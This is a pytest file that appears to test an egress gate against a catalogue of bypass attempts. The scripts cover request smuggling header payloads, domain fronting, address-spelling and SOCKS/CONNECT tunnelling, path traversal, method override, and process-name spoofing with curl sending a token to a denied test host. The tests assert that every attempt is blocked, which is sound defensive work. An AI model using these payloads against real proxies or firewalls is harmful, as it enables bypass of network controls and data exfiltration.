"""Family P, as far as it needs no interception: speaking to the gate. Ids as in the attack catalogue.

`fronted.test` is served at the allowed host's own address, so that only the names tell them apart.
"""

# ruff: noqa: N802

from __future__ import annotations

import hashlib
import ipaddress
import json
from pathlib import Path

import pytest

from tests.adversarial.family import ALLOWED, ATTACKER, POLICY, PROXY, Ran, check, inside, outside
from tests.conftest import TIERS, Tier
from tests.world import World

SINK4, SINK6 = ATTACKER
DENIED = "203.0.113.20"
RULES = (
    POLICY
    + """\
  - host: four.test
    ports: [80]
    methods: [GET, HEAD]
    paths: ["/ok/**"]
"""
)
SPELLINGS = {
    "2130706433": "127.0.0.1",
    "0x7f.1": "127.0.0.1",
    "0177.1": "127.0.0.1",
    "127.1": "127.0.0.1",
    "[::ffff:127.0.0.1]": "::ffff:127.0.0.1",
    "[fe80::1%25eth0]": None,
    "127\u30020\u30020\u30021": None,
    "\uff11\uff12\uff17.0.0.1": None,
    "%31%32%37.0.0.1": None,
    "[[127.0.0.1]]": None,
    "0": "0.0.0.0",
}
# What a second reader of the same bytes could take for another request: TOK names it.
SMUGGLED = {
    "cl.te": "Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    "te space": "Transfer-Encoding : chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n",
    "te odd byte": "Transfer-Encoding: \x0bchunked\r\nContent-Length: 3\r\n\r\n0\r\n\r\n",
    "te.te": "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n",
    "te list": "Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n",
    "cl.cl": "Content-Length: 0\r\nContent-Length: 5\r\n\r\n",
    "cl list": "Content-Length: 0, 5\r\n\r\n",
    "cl sign": "Content-Length: +0\r\n\r\n",
    "fold": "X: a\r\n Content-Length: 40\r\n\r\n",
    "bare lf": "X: a\nContent-Length: 40\r\n\r\n",
    "bare cr": "X: a\rContent-Length: 40\r\n\r\n",
    "nul": "X: a\0Content-Length: 40\r\n\r\n",
    "chunk size": "Transfer-Encoding: chunked\r\n\r\nffffffffffffffff1\r\nA\r\n",
    "chunk extension": "Transfer-Encoding: chunked\r\n\r\n1;a\nb\r\nA\r\n0\r\n\r\n",
    "chunk end": "Transfer-Encoding: chunked\r\n\r\n1\r\nAB\r\n0\r\n\r\n",
}
ODD = (
    *("GET ftp://allowed.test/TOK", "GET file:///etc/passwd?TOK", "get http://denied.test/TOK"),
    *("GET cache_object://localhost/info?TOK", "CONNECT http://allowed.test/TOK"),
    *("GET gopher://denied.test:70/_TOK", "GET  http://allowed.test/TOK", "GE(T http://allowed.test/TOK"),
    *("TRACE http://allowed.test/TOK", "PURGE http://allowed.test/TOK"),
)  # fmt: skip

SCRIPTS = {
    "P01": """
for host in (SINK4, f"[{SINK6}]"):
    socks = f"{PXH}:{PXP}"
    for via in ((), ("-x", PX), ("-x", PX, "-p"), ("--socks5-hostname", socks), ("--socks4a", socks)):
        for scheme in ("http", "https"):
            say(scheme, via, curl(*via, f"{scheme}://{host}/{TOK}")["out"][:40])
""",
    "P02": f"""
for host in {tuple(SPELLINGS)}:
    head = f"CONNECT {{host}}:80 HTTP/1.1\\r\\nHost: {{host}}\\r\\n\\r\\n"
    say(host, px(head + f"GET /{{TOK}} HTTP/1.0\\r\\n\\r\\n")["got"][:12])
""",
    "P04": """
import ssl
def front(stream):
    context = ssl._create_unverified_context()
    with context.wrap_socket(stream, server_hostname=FRONTED) as tls:
        tls.sendall(f"GET /{TOK} HTTP/1.0\\r\\nHost: {FRONTED}\\r\\n\\r\\n".encode())
        return tls.recv(4096).decode()
say(attempt(lambda: front(socket.create_connection((OK, 443), 4))))
def tunnel():
    stream = socket.create_connection((PXH, PXP), 4)
    stream.sendall(f"CONNECT {OK}:443 HTTP/1.1\\r\\nHost: {OK}:443\\r\\n\\r\\n".encode())
    stream.recv(4096)
    return front(stream)
say(attempt(tunnel))
say(tcp(OK, 80, f"GET /{TOK} HTTP/1.1\\r\\nHost: {FRONTED}\\r\\nConnection: close\\r\\n\\r\\n")["got"][:12])
""",
    "P05": """
say(curl("-H", f"Host: {FRONTED}", f"https://{OK}/{TOK}")["out"])
""",
    "P06": """
for via in ((), ("-x", PX)):
    say(curl(*via, "--connect-to", f"{OK}:443:{SINK4}:443", f"https://{OK}/{TOK}")["out"])
    say(curl(*via, "--connect-to", f"{OK}:80:{SINK4}:80", f"http://{OK}/{TOK}")["out"])
""",
    "P09": """
for data in (f"SSH-2.0-{TOK}\\r\\n", f"GET /{TOK} HTTP/1.1\\r\\nHost: {OK}\\r\\n\\r\\n",
             f"\\0{TOK}", f"\\x16\\x09\\x09{TOK}"):
    say(tcp(OK, 443, data))
    say(px(f"CONNECT {OK}:443 HTTP/1.1\\r\\nHost: {OK}:443\\r\\n\\r\\n" + data))
""",
    "P10": """
say(px(f"GET http://{OK}/{TOK} HTTP/1.1\\r\\nHost: {FRONTED}\\r\\nConnection: close\\r\\n\\r\\n")["got"])
say(px(f"GET http://{NO}/{TOK} HTTP/1.1\\r\\nHost: {OK}\\r\\nConnection: close\\r\\n\\r\\n")["got"])
say(px(f"GET http://{OK}@{NO}/{TOK} HTTP/1.1\\r\\nHost: {OK}\\r\\nConnection: close\\r\\n\\r\\n")["got"])
say(tcp(OK, 80, f"GET http://{NO}/{TOK} HTTP/1.1\\r\\nHost: {OK}\\r\\nConnection: close\\r\\n\\r\\n")["got"])
""",
    "P11": f"""
for name, rest in {SMUGGLED!r}.items():
    second = f"GET /{{TOK}} HTTP/1.1\\r\\nHost: {{NO}}\\r\\n\\r\\n"
    first = f" HTTP/1.1\\r\\nHost: {{OK}}\\r\\n{{rest}}"
    rest = first + second
    say(name, tcp(OK, 80, f"POST /{{rest}}"), px(f"POST http://{{OK}}/{{rest}}"))
bare = f"GET / HTTP/1.1\\nHost: {{OK}}\\n\\nGET /{{TOK}} HTTP/1.1\\r\\nHost: {{NO}}\\r\\n\\r\\n"
say("lines", tcp(OK, 80, bare))
""",
    "P11 pipelined": """
say(tcp(OK, 80, f"GET / HTTP/1.1\\r\\nHost: {OK}\\r\\n\\r\\nGET /{TOK} HTTP/1.1\\r\\nHost: {FRONTED}\\r\\n\\r\\n"))
say(px(f"GET http://{OK}/ HTTP/1.1\\r\\nHost: {OK}\\r\\n\\r\\n"
       f"GET http://{NO}/{TOK} HTTP/1.1\\r\\nHost: {NO}\\r\\n\\r\\n"))
""",
    "P14": """
say(px(f"PROXY TCP4 127.0.0.1 127.0.0.1 1 1\\r\\nGET http://{NO}/{TOK} HTTP/1.1\\r\\nHost: {NO}\\r\\n\\r\\n")["got"])
for flag in ("--socks5", "--socks5-hostname", "--socks4", "--socks4a"):
    say(flag, curl(flag, f"{PXH}:{PXP}", f"http://{NO}/{TOK}")["out"])
say(curl("--socks5", f"{PXH}:{PXP}", f"http://{SINK4}/{TOK}")["out"])
""",
    "P14 headers": """
say(curl("-H", f"X-Forwarded-Host: {OK}", "-H", f"Forwarded: host={OK}", "-H", f"X-Original-URL: http://{OK}/",
         f"http://{NO}/{TOK}")["out"])
""",
    "P15": """
preface = b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n" + bytes([0, 0, 0, 4, 0, 0, 0, 0, 0]) + TOK.encode()
say(tcp(OK, 80, preface)["got"][:12], tcp(NO, 80, preface)["got"][:12], px(preface)["got"][:12])
say(curl("--http2-prior-knowledge", f"http://{NO}/{TOK}")["out"])
say(curl("--http2-prior-knowledge", "-x", PX, f"http://{NO}/{TOK}")["out"])
""",
    "P15 upgrade": """
say(curl("-H", "Connection: Upgrade, HTTP2-Settings", "-H", "Upgrade: h2c", "-H", f"HTTP2-Settings: {TOK}",
         f"http://{OK}/h2c")["out"])
""",
    "P16": """
lines = ("Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13",
         "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==", "Sec-WebSocket-Extensions: permessage-deflate", "\\r\\n")
def ask(target, host):
    return "\\r\\n".join((f"GET {target} HTTP/1.1", f"Host: {host}", *lines)).encode()
def frame(first, text):
    return bytes([first, 128 | len(text), 1, 2, 3, 4]) + bytes(c ^ (1, 2, 3, 4)[n % 4] for n, c in enumerate(text))
end = frame(0x88, b"")
for host, word in ((OK, b"hello"), (NO, TOK.encode()), (FRONTED, TOK.encode())):
    framed = frame(0x81, word) + end
    say(tcp(host, 80, ask("/ws", host) + framed))
    say(px(ask(f"http://{host}/ws", host) + framed))
    say(px(f"CONNECT {host}:80 HTTP/1.1\\r\\nHost: {host}:80\\r\\n\\r\\n".encode() + ask("/ws", host) + framed))
# Another request in the place of a frame, and one behind an answer that is not the one it asked for.
second = f"GET /{TOK} HTTP/1.1\\r\\nHost: {NO}\\r\\n\\r\\n".encode()
say(tcp(OK, 80, ask("/ws", OK) + second))
say(tcp(OK, 80, ask("/ws", OK).replace(b"websocket", b"h2c, websocket") + second))
say(tcp(OK, 80, ask("/ws", OK).replace(b"Version: 13", b"Version: 7") + second))
say(curl("-H", lines[0], "-H", lines[1], "-H", lines[2], "-H", lines[3], f"https://{NO}/ws/{TOK}")["code"])
""",
    "P17": """
address = socket.gethostbyname(OK)
say(address, attempt(udp, address, 443, TOK))
""",
    "P21": f"""
for line in {ODD}:
    head = line.replace("TOK", TOK) + f" HTTP/1.1\\r\\nHost: {{OK}}\\r\\nConnection: close\\r\\n\\r\\n"
    say(line, px(head)["got"][:12])
for host in (NO, "four.test"):
    for ask in (px, lambda data: tcp(host, 80, data)):
        said = ask(f"OPTIONS * HTTP/1.1\\r\\nHost: {{host}}\\r\\nX: {{TOK}}\\r\\nConnection: close\\r\\n\\r\\n")
        say("OPTIONS *", said["got"][:12])
""",
    "P22": """
for method in ("PUT", "POST", "DELETE", "PATCH", "get"):
    for via in ((), ("-x", PX)):
        say(method, curl(*via, "-X", method, "-d", TOK, f"http://four.test/ok/{TOK}")["out"][-6:])
for name in ("X-HTTP-Method-Override", "X-HTTP-Method", "x_method_override"):
    for method in ("DELETE", "get, PUT", "nonesuch"):
        say(method, curl("-H", f"{name}: {method}", f"http://four.test/ok/{TOK}")["out"][-6:])
""",
    "P19": """
for path in (f"/proxy?url=http://{NO}/{TOK}",
             f"/ok/../{TOK}", f"/ok/%2e%2e/{TOK}", f"/ok/..%2f{TOK}", f"//ok/{TOK}",
             f"/ok/..\\\\{TOK}"):
    head = f"GET {path} HTTP/1.1\\r\\nHost: four.test\\r\\nConnection: close\\r\\n\\r\\n"
    say(path, tcp("four.test", 80, head)["got"][:12])
""",
    "P24": """
line = f"GET http://{OK}/" + "A" * 70000 + f" HTTP/1.1\\r\\nHost: {OK}\\r\\n\\r\\n"
many = f"GET http://{OK}/ HTTP/1.1\\r\\nHost: {OK}\\r\\n" + "A: b\\r\\n" * 100000 + "\\r\\n"
large = f"GET http://{OK}/ HTTP/1.1\\r\\nHost: {OK}\\r\\nA: " + "A" * 5000000
for data in (line, many, large, "A" * 5000000):
    for send in (px, lambda data: tcp(OK, 80, data)):
        say(send(data))
say(curl(f"http://{OK}/beside")["out"])
""",
    "P29": """
for host, port in ((NO, 5432), (NO, 443), (NO, 80), (SINK4, 5432)):
    say(host, port, tcp(host, port, TOK))
begin = time.monotonic()
with socket.create_connection((NO, 5432), 1) as waiting:
    say(NO, 5432, {"got": "", "end": str(attempt(waiting.recv, 1)), "seconds": time.monotonic() - begin})
""",
    "P31": """
say(shell(f"GITHUB_ACTION_REPOSITORY=actions/checkout curl -skm4 https://{NO}/$TOK"))
say(shell(f"(exec -a /usr/bin/git curl -skm4 http://{NO}/$TOK)"))
say(shell(f"LD_PRELOAD=/usr/bin/git.so curl -skm4 http://{NO}/$TOK/preload"))
say(shell(f"cp -L /usr/bin/curl /tmp/git && /tmp/git -skm4 http://{NO}/$TOK/copy"))
say(shell(f"timeout 8 git -c core.sshCommand='curl -sm4 http://{NO}/'$TOK' #' ls-remote ssh://{OK}/x"))
""",
}


@pytest.fixture(scope="module")
def leaks(world: World) -> Ran:
    # P24 is measured by what comes through: in the open it only takes time.
    return outside(world, {name: script for name, script in SCRIPTS.items() if name != "P24"})


@pytest.fixture(scope="module", params=TIERS)
def ran(world: World, request: pytest.FixtureRequest) -> Ran:
    return inside(world, request.param, SCRIPTS, RULES)


def test_nothing_of_the_family_reached_a_host_that_is_not_allowed(ran: Ran, leaks: Ran) -> None:
    assert leaks.to(*ATTACKER)
    assert leaks.to(DENIED)
    assert ran.to(*ATTACKER, DENIED, PROXY[0]) == []
    assert {packet["protocol"] for packet in ran.packets} <= {6, 17}
    # The name appears in no look-up, no hello and no clear request; inside TLS it can not be seen (P05).
    heads = [entry for entry in ran.log if entry.get("port") != 443]
    assert not [e for e in heads if "fronted.test" in json.dumps(e)]
    assert not [p for p in ran.packets if "fronted" in p["data"].lower()]


def test_P01_address_literals_by_every_dialect(ran: Ran, leaks: Ran) -> None:
    check(ran, leaks, "P01")
    for address in ATTACKER:
        for port in (80, 443):
            assert ran.denied(address=address, port=port)
            vias = {flow["via"] for flow in ran.denied(target=address, target_port=port)}
            assert vias >= {"connect", "socks"}
        assert ran.denied(target=address, via="absolute-form")


def test_P02_spellings_of_an_address(ran: Ran, leaks: Ran) -> None:
    case = check(ran, leaks, "P02")
    for host, reply in case.said:
        assert reply.startswith("HTTP/1.1 4"), host
    for target in {target for target in SPELLINGS.values() if target}:
        wanted = sum(target == other for other in SPELLINGS.values())
        found = [
            flow
            for flow in ran.denied(address=PROXY[0], target_port=80)
            if flow["target"][:1] in "0123456789:"
            and ipaddress.ip_address(flow["target"]) == ipaddress.ip_address(target)
        ]
        assert len(found) == wanted, target
    assert len(ran.denied(address=PROXY[0], rule="fault")) >= 5


def test_P04_domain_fronting(ran: Ran, leaks: Ran) -> None:
    check(ran, leaks, "P04")
    fronted = ran.denied(rule="mismatch", sni="fronted.test")
    assert {flow["via"] for flow in fronted} == {"direct", "connect"}
    assert ran.denied(rule="mismatch", synthetic="allowed.test", host="fronted.test")


def test_P05_fronting_inside_tls_is_recorded_as_not_seen(ran: Ran, leaks: Ran) -> None:
    # Without interception nobody but the two ends sees it: the record must not claim otherwise.
    case = ran["P05"]
    assert leaks["P05"].leaked
    assert {entry["port"] for entry in case.arrived} == {443}
    seen = [flow for flow in ran.flows if flow.get("sni") == "allowed.test"]
    assert seen
    assert not any("method" in flow or "host" in flow for flow in seen)


def test_P06_allowed_name_at_the_attackers_address(ran: Ran, leaks: Ran) -> None:
    case = check(ran, leaks, "P06", own=True)
    assert leaks.to(SINK4, port=443)
    # The gate looked the name up itself.
    assert [said[:8] for said in case.said[:2]] == ["sink GET"] * 2
    for port in (80, 443):
        assert ran.denied(target=SINK4, target_port=port)


def test_P09_bytes_that_are_not_tls_on_a_tls_port(ran: Ran, leaks: Ran) -> None:
    check(ran, leaks, "P09")
    denied = ran.denied(synthetic="allowed.test", port=443)
    assert len([flow for flow in denied if flow["protocol"] != "tls"]) >= 3


def test_P10_absolute_form_against_host(ran: Ran, leaks: Ran) -> None:
    case = check(ran, leaks, "P10")
    assert all(reply.startswith("HTTP/1.1 4") for reply in case.said)
    assert ran.denied(rule="mismatch", target="allowed.test", host="fronted.test")
    assert len(ran.denied(rule="mismatch", target="denied.test", host="allowed.test")) == 2


def test_P11_request_smuggling(ran: Ran, leaks: Ran) -> None:
    case = check(ran, leaks, "P11")
    for name, direct, proxied in case.said[:-1]:
        for said in (direct, proxied):
            assert said["got"].startswith("HTTP/1.1 400 "), name
            assert said["got"].count("HTTP/1.") == 1, name
            assert said["end"] == "eof", name
    assert case.said[-1][1]["got"].startswith("HTTP/1.1 400 ")


def test_P11_a_second_request_is_judged_like_the_first(ran: Ran, leaks: Ran) -> None:
    case = check(ran, leaks, "P11 pipelined")
    for said in case.said:
        assert said["got"].startswith("HTTP/1.1 200 ")
        assert "HTTP/1.1 403 " in said["got"]


def test_P14_other_proxy_dialects(ran: Ran, leaks: Ran) -> None:
    check(ran, leaks, "P14")
    assert ran.denied(address=PROXY[0], protocol="opaque")
    assert len(ran.denied(via="socks", target="denied.test", target_port=80)) == 4
    assert ran.denied(via="socks", target=SINK4)


def test_P14_headers_give_no_identity(ran: Ran, leaks: Ran) -> None:
    check(ran, leaks, "P14 headers")
    assert ran.denied(synthetic="denied.test", host="denied.test", method="GET")


def test_P15_http2_in_the_clear(ran: Ran, leaks: Ran) -> None:
    case = check(ran, leaks, "P15")
    assert case.said[0] == ["HTTP/1.1 400"] * 3
    assert ran.denied(synthetic="denied.test", rule="fault")


def test_P15_an_upgrade_to_http2_is_not_passed_on(ran: Ran, leaks: Ran) -> None:
    check(ran, leaks, "P15 upgrade")
    heads = [entry["head"].lower() for entry in ran.log if "/h2c" in entry.get("head", "")]
    assert heads
    assert not [head for head in heads if "upgrade" in head or "http2-settings" in head]


def test_P16_websocket(ran: Ran, leaks: Ran) -> None:
    case = check(ran, leaks, "P16")
    allowed, others, last = case.said[:3], case.said[3:9], case.said[9:]
    for said in allowed:
        head, _, frames = (
            said["got"]
            .removeprefix("HTTP/1.1 200 Connection established\r\n\r\n")
            .partition("\r\n\r\n")
        )
        assert head.startswith("HTTP/1.1 101 ")
        assert "extensions" not in head.lower()
        assert frames == "\x81\x05hello\x88\x00"
    came = [entry["said"] for entry in ran.log if entry["protocol"] == "websocket"]
    assert [said for said in came if said] == [["hello", ""]] * 3
    assert not [said for said in others if "HTTP/1.1 403 " not in said["got"]]
    assert ran.denied(synthetic="denied.test", path="/ws")
    assert ran.denied(synthetic="fronted.test", path="/ws")
    assert last[0]["got"].startswith("HTTP/1.1 101 ")
    assert "a kind that nobody has agreed on" in last[0]["got"]
    assert [said["got"][:13] for said in last[1:3]] == ["HTTP/1.1 403 "] * 2
    ends = [flow for flow in ran.flows if "frames_up" in flow]
    assert [(f["outcome"], f["frames_up"], f["frames_down"]) for f in ends[:3]] == [
        ("complete", 2, 2)
    ] * 3
    assert ran.denied(synthetic="denied.test", port=443, sni="denied.test")


def test_P17_quic_to_an_allowed_host(ran: Ran, leaks: Ran) -> None:
    case = check(ran, leaks, "P17")
    address, end = case.said[0]
    assert end == "PermissionError 1"
    assert ran.dropped(protocol="udp", destination=address, port=443) == 1


def test_P19_paths_hold(ran: Ran, leaks: Ran) -> None:
    case = check(ran, leaks, "P19")
    assert [reply for _, reply in case.said] == ["HTTP/1.1 403"] * len(case.said)


def test_P21_odd_methods_and_schemes(ran: Ran, leaks: Ran) -> None:
    case = check(ran, leaks, "P21")
    assert not [line for line, reply in case.said if reply.startswith("HTTP/1.1 2")]
    assert [reply for line, reply in case.said if line == "OPTIONS *"] == ["HTTP/1.1 403"] * 4
    assert len(ran.denied(method="OPTIONS", path="*")) == 4


def test_P22_methods_hold(ran: Ran, leaks: Ran) -> None:
    case = check(ran, leaks, "P22")
    assert not [said for _, said in case.said if not said.strip().startswith("4")]
    for method in ("PUT", "POST", "DELETE", "PATCH"):
        denied = ran.denied(method=method, path=f"/ok/{case.token}")
        assert {flow["via"] for flow in denied} == {"direct", "absolute-form"}
    said = {
        flow["fault"] for flow in ran.denied(method="GET", path=f"/ok/{case.token}", rule="fault")
    }
    assert said == {
        f"a header says that the method is {method}, which is not allowed as GET is"
        for method in ("DELETE", "PUT", "another one")
    }


def test_P24_size(ran: Ran, leaks: Ran) -> None:
    case = check(ran, leaks, "P24", control=False)
    for said in case.said[:-1]:
        assert said["got"].startswith("HTTP/1.1 4") or not said["got"]
        assert said["seconds"] < 2
    assert case.said[-1].startswith("sink GET /beside")
    # None of it came through.
    assert max(len(entry.get("head", "")) for entry in ran.log) < 4096


def test_P29_a_client_that_knows_nothing_of_proxies(ran: Ran, leaks: Ran) -> None:
    case = check(ran, leaks, "P29")
    for host, port, said in case.said:
        assert not said["got"]
        assert said["seconds"] < 1, f"{host}:{port}"
    assert ran.denied(synthetic="denied.test", port=5432, protocol="server-first")
    assert ran.denied(address=SINK4, port=5432)


def test_P31_what_a_process_says_of_itself(ran: Ran, leaks: Ran) -> None:
    check(ran, leaks, "P31")
    curl = Path("/usr/bin/curl").resolve()
    real = (str(curl), hashlib.sha256(curl.read_bytes()).hexdigest())
    token = ran["P31"].token
    for path, exe in (
        *((f"/{token}", str(curl)), (f"/{token}/preload", str(curl))),
        (f"/{token}/copy", "/tmp/git"),
    ):
        said = [flow["process"] for flow in ran.denied(synthetic="denied.test", path=path)]
        assert said, path
        for one in said:
            labels = {(holder["exe"], holder["exe_sha256"]) for holder in one["holders"]}
            assert labels == {(exe, real[1])}, path


def test_every_allowed_flow_has_an_end_on_record(ran: Ran) -> None:
    allowed = [flow for flow in ran.flows if flow.get("rule", "").startswith("allow")]
    ends = [flow for flow in allowed if "outcome" in flow]
    assert len(ends) * 2 == len(allowed)
    assert {flow["peer"] for flow in ends if "peer" in flow} <= set(ALLOWED)


def test_a_name_is_never_looked_up_with_a_suffix_of_the_machine(world: World, tier: Tier) -> None:
    settings, before = world.directory / "resolv.conf", len(world.arrived())
    plain = settings.read_text()
    settings.write_text(f"{plain}search wild.test denied.test\n")
    try:
        run = tier.python(
            "import urllib.request, contextlib\n"
            "for name in ('gone.ok.test', 'allowed.test'):\n"
            "    with contextlib.suppress(OSError):\n"
            "        print(name, urllib.request.urlopen(f'http://{name}/').status)\n",
            "version: 1\nallow:\n  - host: allowed.test\n  - host: gone.ok.test\n",
        )
    finally:
        settings.write_text(plain)
    world.settle()
    asked = {entry["name"] for entry in world.arrived()[before:] if entry.get("protocol") == "dns"}
    assert asked == {"gone.ok.test"}
    assert run.out == "allowed.test 200\n"  # which /etc/hosts knows, and no server
